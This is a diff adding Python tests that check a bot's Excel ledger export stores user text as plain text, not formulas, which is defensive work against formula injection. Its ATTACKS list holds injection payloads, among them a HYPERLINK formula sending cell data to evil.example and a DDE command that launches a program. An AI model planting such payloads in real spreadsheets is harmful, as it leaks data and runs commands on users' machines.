@@ -6,6 +6,8 @@ import io
 from datetime import UTC, date, datetime
 from zoneinfo import ZoneInfo
 
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from bot.services import export
@@ -71,3 +73,88 @@ async def test_ledger_rows_one_per_active_assignment(tmp_path):
     assert len(plan_rows) == len(w.active(plan_id=1))
     assert all(r.plan == "P1" for r, _ in plan_rows)
     assert export.file_name(AT, ZONE) == "台账-20250618.xlsx"
+
+
+# --- user text is text, never a formula (issue 10, finding 1) --------------------------------
+
+TEXT_FIELDS = ("plan", "ref", "section", "title", "unit", "liaisons", "milestone",
+               "last_report_note")  # fmt: skip
+ATTACKS = (
+    '=HYPERLINK("http://evil.example/?"&A2,"详情")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "=cmd|' /C calc'!A0",
+    "#N/A",  # an error literal openpyxl would store as an error cell
+    "#REF!",
+)
+
+
+def read_back(data: bytes):
+    return load_workbook(io.BytesIO(data)).active
+
+
+def workbook_of(texts: dict[str, str], status: str = "in_progress") -> bytes:
+    base, _ = row()
+    fields = {**base.__dict__, **texts}
+    return export.workbook_bytes(
+        [(export.LedgerRow(**fields), status)], headers=HEADERS, status_label=lambda s: s,
+        zone=ZoneInfo("Asia/Shanghai"), sheet_title="台账",
+    )  # fmt: skip
+
+
+def text_cells(ws):
+    """Every cell of the data row that holds text (the columns of TEXT_FIELDS and status)."""
+    columns = [export.COLUMNS.index(f) + 1 for f in (*TEXT_FIELDS, "status")]
+    return [ws.cell(row=2, column=c) for c in columns]
+
+
+def test_formula_like_text_is_written_as_text():
+    for attack in ATTACKS:
+        ws = read_back(workbook_of(dict.fromkeys(TEXT_FIELDS, attack), status=attack))
+        for cell in text_cells(ws):
+            assert cell.data_type == "s", (attack, cell.coordinate, cell.data_type)
+            assert cell.value == attack
+        if attack[0] in "=+-@":
+            # Excel's leading apostrophe: the cell stays text when someone edits it
+            assert all(cell.quotePrefix for cell in text_cells(ws))
+
+
+def test_plain_text_has_no_quote_prefix_and_numbers_stay_numbers():
+    ws = read_back(workbook_of({"title": "建设区域医疗中心", "last_report_note": "进度 60%"}))
+    assert ws["D2"].data_type == "s" and not ws["D2"].quotePrefix
+    assert ws["K2"].value == 40 and ws["K2"].data_type == "n"  # progress
+    assert ws["N2"].value == 12 and ws["N2"].data_type == "n"  # days late
+
+
+def test_clean_removes_what_xml_cannot_carry():
+    assert export.clean("a\ufffeb\uffffc") == "abc"
+    assert export.clean("a\ud800b\udfffc") == "abc"  # lone surrogates
+    assert export.clean("😀\U0010fffd") == "😀\U0010fffd"
+
+
+def test_text_longer_than_a_cell_holds_is_cut():
+    ws = read_back(workbook_of({"last_report_note": "长" * (export.MAX_CELL_TEXT + 10)}))
+    assert ws["M2"].value == "长" * export.MAX_CELL_TEXT
+
+
+ANY_TEXT = st.text(alphabet=st.characters(exclude_categories=()), max_size=40)  # surrogates too
+ROW_TEXTS = st.lists(ANY_TEXT, min_size=len(TEXT_FIELDS) + 1, max_size=len(TEXT_FIELDS) + 1)
+
+
+@given(ROW_TEXTS)
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_any_text_round_trips_as_the_same_text_never_a_formula(texts):
+    *fields, status = texts
+    ws = read_back(workbook_of(dict(zip(TEXT_FIELDS, fields, strict=True)), status=status))
+    for cell, written in zip(text_cells(ws), texts, strict=True):
+        expected = export.clean(written)
+        assert cell.data_type != "f"
+        if expected == "":
+            assert cell.value in ("", None)
+            continue
+        assert cell.data_type == "s", (written, cell.data_type)
+        assert cell.value == expected
+        if export.clean(written) == written:
+            assert cell.value == written
